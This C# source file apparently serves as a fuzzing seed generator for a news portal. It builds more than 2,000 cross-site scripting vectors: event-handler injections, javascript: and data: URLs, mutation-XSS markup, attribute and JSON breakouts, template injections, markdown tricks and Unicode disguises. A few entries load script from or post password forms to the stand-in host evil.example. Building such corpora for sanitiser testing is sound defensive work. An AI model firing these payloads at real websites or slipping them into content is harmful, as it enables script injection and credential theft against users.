using System.Text.RegularExpressions;

namespace NewsPortal.Fuzz;

/// <summary>
/// Ways to have a browser run <c>alert(1)</c>, or to take over a page without script: every vector in every disguise.
/// Made by a grammar of our own, so that whoever finds a new way adds one line.
/// </summary>
public static partial class Payloads
{
    private const string Act = "alert(1)";

    private static readonly string[] Elements =
        ["img src=x", "svg", "video src=x", "audio src=x", "body", "input autofocus", "details open", "marquee", "iframe", "object data=x", "embed src=x", "select autofocus", "textarea autofocus", "a href=x", "div", "math", "p", "table", "q", "custom-element tabindex=1 autofocus"];

    private static readonly string[] Handlers = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter"];

    private static readonly string[] Addresses =
    [
        $"javascript:{Act}", $"JaVaScRiPt:{Act}", $"java&Tab;script:{Act}", $"java&NewLine;script:{Act}", $"javascript&colon;{Act}", $"&#106;avascript:{Act}", $"&#x6a;&#x61;vascript:{Act}", $" javascript:{Act}",
        $"javascript://%0a{Act}", $"vbscript:{Act}", $"data:text/html,<script>{Act}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", $"blob:{Act}", $"view-source:javascript:{Act}", "//evil.example/x", "/\\evil.example/x", "file:///etc/passwd",
    ];

    private static readonly string[] Sinks =
    [
        "<a href=\"{0}\">x</a>", "<img src=\"{0}\">", "<iframe src=\"{0}\"></iframe>", "<form action=\"{0}\"><button>x</button></form>", "<svg><a xlink:href=\"{0}\"><text>x</text></a></svg>", "<meta http-equiv=refresh content=\"0;url={0}\">",
        "[x]({0})", "![x]({0})",
    ];

    private static readonly string[] Others =
    [
        // Script, and what becomes script.
        $"<script>{Act}</script>", "<script src=//evil.example/x.js></script>", $"<svg><script>{Act}</script></svg>", $"<svg><script>&#97;lert(1)</script></svg>", $"<svg><animate onbegin={Act} attributeName=x dur=1s>",
        $"<svg><set attributeName=onmouseover to={Act}></svg>", $"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{Act}'/>#x\"></svg>", $"<svg><foreignObject><img src=x onerror={Act}></foreignObject></svg>",
        $"<iframe srcdoc=\"<script>parent.{Act}</script>\"></iframe>", $"<object data=\"data:text/html,<script>{Act}</script>\"></object>", $"<link rel=stylesheet href=\"javascript:{Act}\">", $"<style>@import 'javascript:{Act}';</style>",
        // Markup that turns into other markup when it is written and read again.
        $"<math><mtext><table><mglyph><style><img src=x onerror={Act}>", $"<form><math><mtext></form><form><mglyph><style></math><img src onerror={Act}>", $"<math><mtext><h1><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={Act}&gt;\">",
        $"<svg></p><style><a id=\"</style><img src=1 onerror={Act}>\">", $"<svg><style><img src=x onerror={Act}></style>", $"<noscript><p title=\"</noscript><img src=x onerror={Act}>\"></noscript>", $"<noembed><p title=\"</noembed><img src=x onerror={Act}>\"></noembed>",
        $"<xmp><p title=\"</xmp><img src=x onerror={Act}>\"></xmp>", $"<template><p title=\"</template><img src=x onerror={Act}>\"></template>", $"<textarea><p title=\"</textarea><img src=x onerror={Act}>\"></textarea>", $"<title><p title=\"</title><img src=x onerror={Act}>\"></title>",
        $"<iframe><p title=\"</iframe><img src=x onerror={Act}>\"></iframe>", $"<select><template><style><!--</style><a rel=\"--></style></select><img id=x src onerror={Act}>\">", $"<table><td><svg><desc><td></desc><style><a title=\"</style><img src onerror={Act}>\"></svg>",
        $"<svg><title><style><img src=x onerror={Act}></style></title></svg>", $"<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror={Act}></style></annotation-xml></math>", $"<p><svg><![CDATA[</svg><img src=x onerror={Act}>]]></svg>", $"<!--><img src=x onerror={Act}>-->", $"<!--!><img src=x onerror={Act}>--!>",
        $"<?xml <img src=x onerror={Act}>?>", $"<![CDATA[<img src=x onerror={Act}>]]>", $"<plaintext><img src=x onerror={Act}>", $"</p></div></article></main><img src=x onerror={Act}>", $"<a title=\"<img src=x onerror={Act}>\">x</a>", $"<img alt=\"`><img src=x onerror={Act}>\">", $"<frameset onload={Act}>", $"<base href=\"javascript:/\"><a href=\"/{Act}\">x</a>",
        // Names that scripts might stumble over.
        "<p id=body name=cookie>x</p>", "<a id=__proto__>x</a>", "<form id=document><input name=forms></form>", "<img name=getElementById>", "<a id=location href=x>x</a><a id=location name=href>x</a>", "<p id=main tabindex=-1>x</p>", "<section id=constructor>x</section>", "<iframe name=top></iframe>",
        // A page over the page.
        "<form action=//evil.example><input name=password></form>", "<p style=\"position:fixed;inset:0;z-index:9;background:url(//evil.example/x)\">x</p>", "<style>*{display:none}</style>", "<button formaction=//evil.example>x</button>", "<base href=//evil.example/>", "<link rel=prefetch href=//evil.example/x>", "<img srcset=\"//evil.example/x 1x\">", "<video poster=//evil.example/x></video>", "<input type=image src=//evil.example/x>", "<dialog open>x</dialog>", "<table background=//evil.example/x><td>x</table>",
        // Out of an attribute, out of a JSON string, out of a CDATA section.
        $"\" onmouseover=\"{Act}", $"' onfocus='{Act}' autofocus='", $"\"><img src=x onerror={Act}>", $"` onload={Act} `", $"</script><script>{Act}</script>", $"<!--<script>{Act}//", $"\"}}</script><script>{Act}</script>", $"\\\"}};{Act};//", $"\\u003cscript\\u003e{Act}\\u003c/script\\u003e", $"]]><img src=x onerror={Act}>",
        $"]]></title><script xmlns=\"http://www.w3.org/1999/xhtml\">{Act}</script>", $"</title><img src=x onerror={Act}>", $"&lt;script&gt;{Act}&lt;/script&gt;", $"&amp;lt;img src=x onerror={Act}&amp;gt;", $"{{{{constructor.constructor('{Act}')()}}}}", $"${{{Act}}}", $"@({Act})", $"<%= {Act} %>", $"%3Cimg src=x onerror={Act}%3E",
        // Markdown.
        $"# x {{onclick={Act}}}", $"x{{onclick={Act} #y style=a}}", $"```html onload={Act}\n<img src=x onerror={Act}>\n```", $"[x]\n\n[x]: javascript:{Act}", $"[x](x \"\\\" onclick=\\\"{Act}\")", $"![\" onerror=\"{Act}](x.png)", $"<javascript:{Act}>", $"[a](<javascript:{Act}>)", $"[^1]\n\n[^1]: <img src=x onerror={Act}>", $"| a |\n|---|\n| <img src=x onerror={Act}> |",
        // Text that is read the other way round, or not seen.
        $"\u202e<img src=x onerror={Act}>\u202c", $"\u2066<svg onload={Act}>\u2069", $"<\u200bimg src=x onerror={Act}>", $"＜img src=x onerror={Act}＞", $"<img\u00a0src=x onerror={Act}>", $"<İmg src=x onerror={Act}>",
    ];

    /// <summary>Each way once.</summary>
    public static readonly IReadOnlyList<string> Vectors =
    [
        .. Elements.SelectMany(element => Handlers.Select(handler => $"<{element} {handler}={Act}>")),
        .. Sinks.SelectMany(sink => Addresses.Select(address => sink.Replace("{0}", address, StringComparison.Ordinal))),
        .. Others,
    ];

    private static readonly Func<string, string>[] Disguises =
    [
        vector => vector,
        vector => Name().Replace(vector, name => string.Concat(name.Value.Select((c, i) => i % 2 == 0 ? char.ToUpperInvariant(c) : c))),
        vector => vector.Replace(" ", "/", StringComparison.Ordinal),
        vector => "\">" + vector,
        vector => "--></script></style></textarea></title>" + vector,
        vector => vector.Replace("=", " = ", StringComparison.Ordinal).Replace(">", " //>", StringComparison.Ordinal),
        vector => vector.Replace("<", "&lt;", StringComparison.Ordinal).Replace(">", "&gt;", StringComparison.Ordinal),
        vector => vector.Replace("<", "<<", StringComparison.Ordinal),
    ];

    /// <summary>Every vector in every disguise; more than 2,000. None has a control character, which no seed may have.</summary>
    public static readonly IReadOnlyList<string> All = [.. Vectors.SelectMany(vector => Disguises.Select(disguise => disguise(vector))).Distinct()];

    [GeneratedRegex("(?<=</?)[a-z]+", RegexOptions.CultureInvariant)]
    private static partial Regex Name();
}
